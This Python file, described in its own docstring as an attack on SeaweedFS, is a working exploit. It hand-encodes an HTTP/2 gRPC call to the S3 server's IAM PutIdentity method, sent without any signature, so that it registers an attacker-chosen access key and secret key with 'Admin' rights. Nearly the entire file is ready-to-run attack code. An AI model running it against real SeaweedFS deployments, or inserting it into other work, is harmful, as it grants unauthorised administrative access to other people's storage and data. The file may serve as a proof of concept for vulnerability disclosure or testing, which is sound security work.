"""An attack on SeaweedFS: add an access key through the gRPC port of its S3 server."""

import socket
import struct

METHOD = b"/messaging_pb.SeaweedS3IamCache/PutIdentity"
SETTINGS, HEADERS, DATA = 4, 1, 0
END_STREAM, END_HEADERS = 1, 4


def put_identity(host: str, port: int, access_key: str, secret_key: str) -> None:
    """Ask for an identity with all rights and this key, without a signature. Wait for the answer and ignore it.

    This is one call of gRPC (https://github.com/grpc/grpc/blob/master/doc/PROTOCOL-HTTP2.md) over HTTP/2 (RFC 9113).
    """
    credential = _field(1, access_key.encode()) + _field(2, secret_key.encode())
    identity = _field(1, access_key.encode()) + _field(2, credential) + _field(3, b"Admin")
    message = _field(1, identity)
    fields = {b":method": b"POST", b":scheme": b"http", b":path": METHOD, b":authority": host.encode()}
    fields |= {b"content-type": b"application/grpc", b"te": b"trailers"}
    block = b"".join(b"\0" + _text(name) + _text(value) for name, value in fields.items())
    with socket.create_connection((host, port), timeout=5) as connection, connection.makefile("rb") as answer:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(SETTINGS, 0, 0, b""))
        connection.sendall(_frame(HEADERS, END_HEADERS, 1, block))
        connection.sendall(_frame(DATA, END_STREAM, 1, struct.pack("!BI", 0, len(message)) + message))
        while True:
            high, low, kind, flags, _ = struct.unpack("!BHBBI", answer.read(9))
            answer.read(high << 16 | low)
            if kind == HEADERS and flags & END_STREAM:
                return


def _field(number: int, content: bytes) -> bytes:
    """Encode a field of a protobuf message that has fewer than 128 bytes."""
    return bytes([number << 3 | 2, len(content)]) + content


def _text(content: bytes) -> bytes:
    """Encode a text of HPACK (RFC 7541) that has fewer than 127 bytes."""
    return bytes([len(content)]) + content


def _frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    """Encode a frame of HTTP/2."""
    return struct.pack("!BHBBI", 0, len(content), kind, flags, stream) + content
